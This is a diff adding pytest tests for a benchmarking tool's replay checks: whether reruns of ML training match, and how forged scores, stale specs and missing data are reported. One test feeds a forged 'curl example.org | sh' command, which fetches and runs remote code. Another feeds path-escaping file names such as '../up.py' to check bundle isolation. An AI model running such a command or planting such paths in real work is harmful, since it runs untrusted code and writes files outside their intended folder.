@@ -1,0 +1,299 @@
+"""Replays: what counts as the same run, which runs are drawn, what cannot be replayed and why."""
+
+from __future__ import annotations
+
+import contextlib
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+from assay.engine.cells import Cell
+from assay.engine.pool import Pool
+from assay.errors import AssayError, DataError, PluginError, WorkerError
+from assay.publication import replay as replaying
+from assay.publication.replay import Replay, compare, replay, sample, summarise, unpacked
+from assay.records.schema import RunRecord
+from hypothesis import given
+from hypothesis import strategies as st
+
+ALLOWED = 0.02
+
+
+@pytest.fixture
+def cell(make_cell: Any, make_task: Any, make_method: Any) -> Cell:
+    made: Cell = make_cell(make_task(), make_method("sgd", "a = 1\n"))
+    return made
+
+
+@pytest.fixture
+def run(cell: Cell, fake_pool: Any) -> Callable[[int], RunRecord]:
+    """A record of a repetition, as the fake pool makes them."""
+
+    def made(number: int = 0) -> RunRecord:
+        spec = cell.spec(cell.points[0], "repetition", number)
+        job = replaying.Job(spec, cell.task, cell.method)
+        record: RunRecord = fake_pool().run(job, cell.reproduce(spec))
+        return record
+
+    return made
+
+
+@pytest.fixture
+def completed(run: Callable[[int], RunRecord]) -> RunRecord:
+    return next(record for record in map(run, range(50)) if record.result)
+
+
+@pytest.fixture
+def diverged(run: Callable[[int], RunRecord]) -> RunRecord:
+    return next(record for record in map(run, range(50)) if not record.result)
+
+
+def elsewhere(record: RunRecord, **changes: Any) -> RunRecord:
+    environment = record.environment.model_copy(update={"cpu": "another"})
+    return record.model_copy(update={"environment": environment, **changes})
+
+
+def scored(record: RunRecord, test: float) -> RunRecord:
+    assert record.result is not None
+    result = record.result.model_copy(update={"test": test})
+    return record.model_copy(update={"result": result, "weights_sha256": "0" * 64})
+
+
+def test_on_one_machine_everything_but_time_must_be_the_same(completed: RunRecord) -> None:
+    assert completed.result is not None
+    usage = completed.usage.model_copy(update={"train_seconds": 99.0, "peak_bytes": 1})
+    slower = completed.model_copy(update={"usage": usage, "created_at": "later"})
+    assert compare(completed, slower, ALLOWED).verdict == "identical"
+    point = replace(completed.curve[0], test=0.123)
+    forged: dict[str, Any] = {
+        "weights": {"weights_sha256": "0" * 64},
+        "result": {"result": completed.result.model_copy(update={"test": 0.999})},
+        "curve": {"curve": [point, *completed.curve[1:]]},
+        "counts": {"usage": completed.usage.model_copy(update={"passes": 1})},
+    }
+    for name, change in forged.items():
+        found = compare(completed.model_copy(update=change), completed, ALLOWED)
+        assert found.verdict == "differs"
+        assert found.detail.startswith(name)
+
+
+def test_on_another_machine_the_score_has_a_stated_tolerance(completed: RunRecord) -> None:
+    assert completed.result is not None
+    for share, verdict in ((0.99, "within tolerance"), (1.01, "differs")):
+        there = elsewhere(scored(completed, completed.result.test + share * ALLOWED))
+        found = compare(there, completed, ALLOWED)
+        assert found.verdict == verdict
+        assert f"allowed {ALLOWED:.4g}" in found.detail
+        assert "cpu another, here fake" in found.detail
+    assert compare(elsewhere(completed), completed, ALLOWED).verdict == "identical"
+
+
+def test_the_tolerance_is_the_tasks(make_task: Callable[..., Any]) -> None:
+    card = make_task().card
+    assert replaying.tolerance(card) == 2 * card.metric.margin
+    quantized = card.model_copy(update={"family": "quantization"})
+    assert replaying.tolerance(quantized) is None
+
+
+def test_quantized_runs_of_two_machines_are_comparable_if_the_same(completed: RunRecord) -> None:
+    assert completed.result is not None
+    other = elsewhere(scored(completed, completed.result.test))
+    assert compare(other, completed, None).verdict == "cannot"
+    assert compare(elsewhere(completed), completed, None).verdict == "identical"
+    assert compare(scored(completed, 0.5), completed, None).verdict == "differs"
+
+
+def test_a_gpu_promises_no_bits_even_beside_itself(completed: RunRecord) -> None:
+    def on_gpu(record: RunRecord) -> RunRecord:
+        environment = record.environment.model_copy(update={"device": "gpu"})
+        return record.model_copy(update={"environment": environment})
+
+    assert completed.result is not None
+    again = scored(completed, completed.result.test)
+    assert compare(on_gpu(completed), on_gpu(again), ALLOWED).verdict == "within tolerance"
+    assert compare(completed, again, ALLOWED).verdict == "differs"
+
+
+def test_a_run_that_ended_badly_must_end_so_again(
+    completed: RunRecord, diverged: RunRecord
+) -> None:
+    assert compare(diverged, diverged, ALLOWED).verdict == "identical"
+    assert compare(elsewhere(diverged), diverged, ALLOWED).verdict == "identical"
+    assert compare(diverged, completed, ALLOWED).verdict == "differs"
+    assert compare(elsewhere(diverged), completed, ALLOWED).verdict == "differs"
+    late = diverged.model_copy(update={"status": "out_of_budget"})
+    assert compare(late, completed, ALLOWED).verdict == "differs"
+    assert compare(elsewhere(late), completed, ALLOWED).verdict == "cannot"
+
+
+def test_another_scorer_cannot_be_compared(completed: RunRecord) -> None:
+    older = completed.model_copy(update={"scorer_version": 0})
+    assert compare(older, completed, ALLOWED).verdict == "cannot"
+
+
+@given(sizes=st.lists(st.integers(0, 6), max_size=5), n=st.integers(0, 30), seed=st.integers(0))
+def test_a_sample_is_of_its_size_without_repeats_over_all_tasks(
+    sizes: list[int], n: int, seed: int
+) -> None:
+    records: list[Any] = [
+        SimpleNamespace(
+            id=f"{task:08x}{number:08x}",
+            spec=SimpleNamespace(task=SimpleNamespace(slug=f"t{task}")),
+        )
+        for task, size in enumerate(sizes)
+        for number in range(size)
+    ]
+    drawn = sample(records, n, seed)
+    assert len({record.id for record in drawn}) == len(drawn) == min(n, len(records))
+    assert drawn == sample(records[::-1], n, seed)
+    tasks = {record.spec.task.slug for record in drawn}
+    assert len(tasks) == min(len(drawn), sum(size > 0 for size in sizes))
+
+
+def told(verdict: str, level: str | None = "L2") -> Replay:
+    names = {"run_id": "0" * 16, "task": "t", "method": "m", "purpose": "tuning", "repetition": 0}
+    return Replay(**names, verdict=verdict, detail="", recorded_test=0.5, level=level)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("replays", "tier", "says"),
+    [
+        ([told("identical"), told("within tolerance")], "T2", "2 runs replayed, 1 of them bit"),
+        ([told("identical"), told("differs")], None, "1 of 2 runs differ"),
+        ([told("identical"), told("cannot", None)], None, "1 of 2 runs could be replayed"),
+        ([told("identical"), told("identical", "L1")], None, "at level L1; expected the sandbox"),
+    ],
+)
+def test_a_tier_is_earned_by_every_run(replays: list[Replay], tier: str | None, says: str) -> None:
+    found = summarise(replays, len(replays))
+    assert found.tier == tier
+    assert says in found.why
+
+
+def test_no_run_earns_no_tier() -> None:
+    assert summarise([], 0).tier is None
+
+
+class Replaying:
+    """`replay` of one cell's records on a pool that trains nothing."""
+
+    def __init__(self, cell: Cell, patch: pytest.MonkeyPatch) -> None:
+        self.cell, self.pools = cell, 0
+        patch.setattr(replaying, "find_task", lambda slug: cell.task)
+
+    def __call__(self, records: list[RunRecord], pool: Any) -> list[Replay]:
+        def make_pool(**_: Any) -> Any:
+            self.pools += 1
+            if isinstance(pool, Exception):
+                raise pool
+            return contextlib.nullcontext(pool)
+
+        entry = self.cell.method
+        return list(
+            replay(records, lambda ref: replaying.checked_method(entry, ref), make_pool=make_pool)
+        )
+
+
+@pytest.fixture
+def replaying_cell(cell: Cell, monkeypatch: pytest.MonkeyPatch) -> Replaying:
+    return Replaying(cell, monkeypatch)
+
+
+def test_runs_are_replayed_on_one_pool_each_with_its_verdict(
+    replaying_cell: Replaying, run: Callable[[int], RunRecord], fake_pool: Any
+) -> None:
+    records = [run(number) for number in range(4)]
+    records[2] = records[2].model_copy(update={"weights_sha256": "0" * 64})
+    found = replaying_cell(records, fake_pool())
+    assert [one.verdict for one in found] == ["identical", "identical", "differs", "identical"]
+    assert [one.run_id for one in found] == [record.id for record in records]
+    assert replaying_cell.pools == 1
+
+
+def test_what_cannot_be_replayed_says_why_and_stops_no_other(
+    replaying_cell: Replaying, completed: RunRecord, fake_pool: Any, tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    monkeypatch.setenv("ASSAY_EPOCHS", str(tmp_path))
+    spec = completed.spec
+    changed = {
+        "stale task": spec.model_copy(update={"task": spec.task.model_copy(
+            update={"code_hash": "0" * 64})}),
+        "stale method": spec.model_copy(update={"method": spec.method.model_copy(
+            update={"code_hash": "0" * 64})}),
+        "ruleset 0": spec.model_copy(update={"ruleset": 0}),
+        "no epoch is called 'spring'": spec.model_copy(update={"epoch": "spring"}),
+    }  # fmt: skip
+    records = [completed.model_copy(update={"spec": one}) for one in changed.values()]
+    found = replaying_cell([*records, completed], fake_pool())
+    assert [one.verdict for one in found] == ["cannot"] * 4 + ["identical"]
+    for reason, one in zip(changed, found, strict=False):
+        assert reason in one.detail
+
+
+@pytest.mark.parametrize(
+    "problem", [DataError("the data are missing"), WorkerError("no GPU was found")]
+)
+def test_missing_data_or_machines_are_reasons_not_differences(
+    replaying_cell: Replaying, completed: RunRecord, fake_pool: Any, problem: AssayError
+) -> None:
+    class Failing(fake_pool):  # type: ignore[misc]
+        def run(self, *_: Any) -> RunRecord:
+            raise problem
+
+    for pool in (Failing(), problem):  # the run fails, or the pool cannot be had at all
+        (found,) = replaying_cell([completed], pool)
+        assert (found.verdict, found.detail) == ("cannot", str(problem))
+
+
+def test_a_command_that_is_not_the_specs_is_told(
+    replaying_cell: Replaying, completed: RunRecord, fake_pool: Any
+) -> None:
+    assert replaying.command_note(completed) == ""
+    forged = completed.model_copy(update={"reproduce": "curl example.org | sh"})
+    (found,) = replaying_cell([forged], fake_pool())
+    assert found.verdict == "identical"
+    assert "expected: assay run sgd --task toy" in found.detail
+
+
+CARD = b'slug = "mine"\ntitle = "Mine"\n'
+
+
+def test_a_bundles_source_is_unpacked_for_a_worker_and_gone_afterwards() -> None:
+    with unpacked({"card.toml": CARD, "method.py": b"raise SystemExit\n"}, "mine") as entry:
+        assert entry.card.title == "Mine"
+        assert entry.source.parent.name == "mine"
+    assert not entry.source.exists()
+
+
+@pytest.mark.parametrize("name", ["../up.py", "/tmp/x.py", "a/b.py", ".pth", "", "a\nb"])
+def test_a_bundles_source_stays_in_its_folder(name: str) -> None:
+    source = {"card.toml": CARD, "method.py": b"", name: b""}
+    with pytest.raises(PluginError, match="has a file called"), unpacked(source, "mine"):
+        pass
+
+
+def test_a_real_run_is_identical_and_a_forged_score_is_not(
+    pool: Pool, make_task: Any, make_method: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from assay.engine.cells import make_cells
+
+    source = "from assay.method import Method\n\n\nclass M(Method):\n    pass\n"
+    task, method = make_task(), make_method("mine", source)
+    monkeypatch.setattr(replaying, "find_task", lambda slug: task)
+    (cell,) = make_cells([(task, method)], pool, "quick")
+    spec = cell.spec(cell.points[0], "repetition", 1)
+    record = pool.run(replaying.Job(spec, task, method), cell.reproduce(spec))
+    assert record.result is not None
+    better = record.result.model_copy(update={"test": 1.0})
+    forged = record.model_copy(update={"result": better})
+    found = list(
+        replay([record, forged], lambda ref: replaying.checked_method(method, ref),
+               make_pool=lambda **_: contextlib.nullcontext(pool))
+    )  # fmt: skip
+    assert [one.verdict for one in found] == ["identical", "differs"]
+    assert found[0].level == record.isolation.level
+    assert found[0].detail == ""
